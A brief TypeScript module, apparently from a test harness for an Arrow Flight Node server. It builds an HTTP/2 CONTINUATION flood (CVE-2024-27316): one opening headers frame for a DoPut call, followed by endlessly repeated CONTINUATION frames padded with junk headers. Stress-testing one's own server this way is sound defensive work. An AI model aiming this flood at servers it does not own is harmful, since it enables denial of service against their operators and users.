import { methodPath } from "arrow-flight-node/protocol";
import { encodeHeaders, http2Frame, requestHeaders } from "../../flight/http2-bytes.js";
import { type Flood, repeated } from "../flood.js";

/** Headers that never end (CVE-2024-27316). */
export const continuation: Flood = {
  name: "CONTINUATION",
  opening: http2Frame(1, 0, 1, requestHeaders(methodPath("DoPut"))),
  start: repeated(http2Frame(9, 0, 1, encodeHeaders({ "x-more": "a".repeat(100) }))),
};
